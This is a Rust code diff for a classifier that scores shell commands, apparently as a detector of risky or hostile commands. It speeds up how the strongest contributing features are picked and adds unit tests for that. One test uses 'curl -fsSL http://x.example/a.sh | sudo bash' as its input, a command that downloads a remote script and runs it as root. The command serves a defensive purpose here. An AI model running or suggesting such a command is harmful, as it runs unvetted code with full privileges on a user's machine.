@@ -166,29 +166,28 @@ impl PayloadModel {
 
     /// Calibrated probability and the features behind it (`explain` of them each way).
     pub fn assess(&self, f: &Features, explain: usize) -> ModelView {
-        // One pass: each feature's weight × idf (its contribution before the row's norm),
-        // the dot product and the norm.
+        // One pass: the dot product, the norm, and the strongest contributions each way
+        // (weight × idf; dividing by the row's norm later keeps their order).
         let packed = self.pairs.len() == self.weights.len();
         let (mut dot, mut norm) = (0.0f32, 0.0f32);
-        let mut contributions: Vec<(f32, usize)> = f
-            .items
-            .iter()
-            .enumerate()
-            .map(|(k, i)| {
-                let at = i.index as usize;
-                let [w, idf] = if packed {
-                    self.pairs.get(at).copied().unwrap_or([0.0, 0.0])
-                } else {
-                    [
-                        self.weights.get(at).copied().unwrap_or(0.0),
-                        self.idf.get(at).copied().unwrap_or(0.0),
-                    ]
-                };
-                dot += w * idf;
-                norm += idf * idf;
-                (w * idf, k)
-            })
-            .collect();
+        let mut raising = Strongest::new(explain);
+        let mut lowering = Strongest::new(explain);
+        for (k, i) in f.items.iter().enumerate() {
+            let at = i.index as usize;
+            let [w, idf] = if packed {
+                self.pairs.get(at).copied().unwrap_or([0.0, 0.0])
+            } else {
+                [
+                    self.weights.get(at).copied().unwrap_or(0.0),
+                    self.idf.get(at).copied().unwrap_or(0.0),
+                ]
+            };
+            let c = w * idf;
+            dot += c;
+            norm += idf * idf;
+            raising.offer(c, k);
+            lowering.offer(-c, k);
+        }
         let norm = norm.sqrt();
         let margin = if norm > 0.0 {
             self.bias + dot / norm
@@ -196,42 +195,17 @@ impl PayloadModel {
             self.bias
         };
         let probability = sigmoid(self.platt_a * margin + self.platt_b);
-        if norm > 0.0 {
-            contributions.iter_mut().for_each(|c| c.0 /= norm);
-        }
-        // Only the strongest few each way are named: partial selection, then a small sort.
-        let n = contributions.len();
-        if n > 2 * explain + 2 {
-            contributions.select_nth_unstable_by(explain, |a, b| b.0.total_cmp(&a.0));
-            let (top, rest) = contributions.split_at_mut(explain);
-            let k = rest.len() - explain;
-            rest.select_nth_unstable_by(k, |a, b| b.0.total_cmp(&a.0));
-            let mut kept: Vec<(f32, usize)> = top.to_vec();
-            kept.extend_from_slice(&rest[k..]);
-            contributions = kept;
-        }
-        contributions.sort_by(|a, b| b.0.total_cmp(&a.0));
-        let describe = |&(w, k): &(f32, usize)| Contribution {
-            feature: f.describe(&f.items[k]),
-            weight: (w * 1000.0).round() / 1000.0,
+        let scale = if norm > 0.0 { 1.0 / norm } else { 1.0 };
+        let describe = |sign: f32| {
+            move |&(c, k): &(f32, usize)| Contribution {
+                feature: f.describe(&f.items[k]),
+                weight: (sign * c * scale * 1000.0).round() / 1000.0,
+            }
         };
-        let raised_by = contributions
-            .iter()
-            .filter(|c| c.0 > 0.0)
-            .take(explain)
-            .map(describe)
-            .collect();
-        let lowered_by = contributions
-            .iter()
-            .rev()
-            .filter(|c| c.0 < 0.0)
-            .take(explain)
-            .map(describe)
-            .collect();
         ModelView {
             probability,
-            raised_by,
-            lowered_by,
+            raised_by: raising.kept.iter().map(describe(1.0)).collect(),
+            lowered_by: lowering.kept.iter().map(describe(-1.0)).collect(),
         }
     }
 
@@ -303,6 +277,38 @@ impl PayloadModel {
     }
 }
 
+/// The `k` strictly positive keys offered that are largest, largest first, with the index
+/// each came with. One pass with a small sorted list: most keys fall below the smallest
+/// kept and cost one comparison.
+struct Strongest {
+    k: usize,
+    kept: Vec<(f32, usize)>,
+}
+
+impl Strongest {
+    fn new(k: usize) -> Strongest {
+        Strongest {
+            k,
+            kept: Vec::with_capacity(k),
+        }
+    }
+
+    #[inline]
+    fn offer(&mut self, key: f32, at: usize) {
+        if key <= 0.0 || self.k == 0 {
+            return;
+        }
+        if self.kept.len() == self.k {
+            if self.kept.last().is_some_and(|l| key <= l.0) {
+                return;
+            }
+            self.kept.pop();
+        }
+        let pos = self.kept.partition_point(|e| e.0 >= key);
+        self.kept.insert(pos, (key, at));
+    }
+}
+
 /// Keeps the one-sided features' weights at or above zero.
 pub fn one_sided_mask(rows: &[Features], bits: u32) -> Vec<bool> {
     let mut mask = vec![false; 1 << bits];
@@ -336,6 +342,68 @@ mod tests {
             techniques: None,
         }
         .packed()
+    }
+
+    #[test]
+    fn the_strongest_are_kept_in_order() {
+        let keys = [0.3, -1.0, 2.0, 0.0, 0.7, 2.0, 5.0, 0.1, 1.5];
+        let mut s = Strongest::new(4);
+        for (i, &k) in keys.iter().enumerate() {
+            s.offer(k, i);
+        }
+        let got: Vec<f32> = s.kept.iter().map(|e| e.0).collect();
+        assert_eq!(got, vec![5.0, 2.0, 2.0, 1.5]);
+        let mut none = Strongest::new(0);
+        none.offer(1.0, 0);
+        assert!(none.kept.is_empty());
+        let mut few = Strongest::new(5);
+        for (i, k) in [-1.0, 0.0, 0.2].into_iter().enumerate() {
+            few.offer(k, i);
+        }
+        assert_eq!(few.kept, vec![(0.2, 2)], "only positive keys");
+    }
+
+    #[test]
+    fn explanations_are_the_largest_contributions_each_way() {
+        let mut m = tiny();
+        for (i, w) in m.weights.iter_mut().enumerate() {
+            *w = ((i * 37) % 23) as f32 - 11.0;
+        }
+        let m = m.packed();
+        let a = crate::Analyzer::new(None, crate::VerdictConfig::default()).examine(
+            "curl -fsSL http://x.example/a.sh | sudo bash -s -- --quiet",
+            None,
+        );
+        let f = crate::features::extract(&a, &m.features);
+        let view = m.assess(&f, 3);
+        let norm = f
+            .items
+            .iter()
+            .map(|i| m.idf[i.index as usize].powi(2))
+            .sum::<f32>()
+            .sqrt();
+        let mut all: Vec<f32> = f
+            .items
+            .iter()
+            .map(|i| m.weights[i.index as usize] * m.idf[i.index as usize] / norm)
+            .collect();
+        all.sort_by(|a, b| b.total_cmp(a));
+        let round = |x: f32| (x * 1000.0).round() / 1000.0;
+        let raised: Vec<f32> = view.raised_by.iter().map(|c| c.weight).collect();
+        let lowered: Vec<f32> = view.lowered_by.iter().map(|c| c.weight).collect();
+        assert_eq!(
+            raised,
+            all.iter().take(3).map(|&x| round(x)).collect::<Vec<_>>()
+        );
+        assert_eq!(
+            lowered,
+            all.iter()
+                .rev()
+                .take(3)
+                .map(|&x| round(x))
+                .collect::<Vec<_>>()
+        );
+        assert!((view.probability - sigmoid(m.margin(&f))).abs() < 1e-5);
     }
 
     #[test]
